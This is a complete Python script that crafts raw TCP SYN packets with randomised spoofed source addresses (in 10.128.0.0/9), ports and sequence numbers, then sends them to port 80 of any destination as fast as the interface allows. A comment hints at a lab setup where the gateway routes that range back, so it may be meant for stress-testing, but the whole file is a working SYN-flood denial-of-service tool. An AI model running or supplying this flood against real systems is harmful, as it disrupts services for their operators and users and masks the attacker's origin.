#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""SYNs from addresses and ports by chance, as fast as they go.

    flood.py INTERFACE GATEWAY-MAC DESTINATION COUNT SEED
"""
import random
import socket
import struct
import sys


def folded(total):
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def words(data):
    return sum(struct.unpack(f'!{len(data) // 2}H', data))


def main():
    interface, gateway, destination, count, seed = sys.argv[1:]
    chance = random.Random(int(seed))
    target = socket.inet_aton(destination)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
    where = (interface, 0x0800, 0, 0, bytes.fromhex(gateway.replace(':', '')))
    packet = bytearray(struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, 0, 0x4000, 64, 6, 0, bytes(4), target) +
                       struct.pack('!HHIIBBHHH', 0, 80, 0, 0, 0x50, 2, 64240, 0, 0))
    header, segment = words(packet[:20]), words(packet[20:]) + words(target) + 6 + 20
    for _ in range(int(count)):
        # 10.128.0.0/9: the gateway has a route for it that ends at the client.
        value = chance.getrandbits(71)
        source = 0x0a800000 | value & 0x7fffff
        port, sequence = value >> 23 & 0xffff | 1, value >> 39
        sums = (source >> 16) + (source & 0xffff)
        struct.pack_into('!HI', packet, 10, folded(header + sums), source)
        struct.pack_into('!HHI', packet, 20, port, 80, sequence)
        struct.pack_into('!H', packet, 36, folded(segment + sums + port + (sequence >> 16) + (sequence & 0xffff)))
        try:
            sock.sendto(packet, where)
        except OSError:
            pass   # no room on the device: one SYN less


if __name__ == '__main__':
    main()
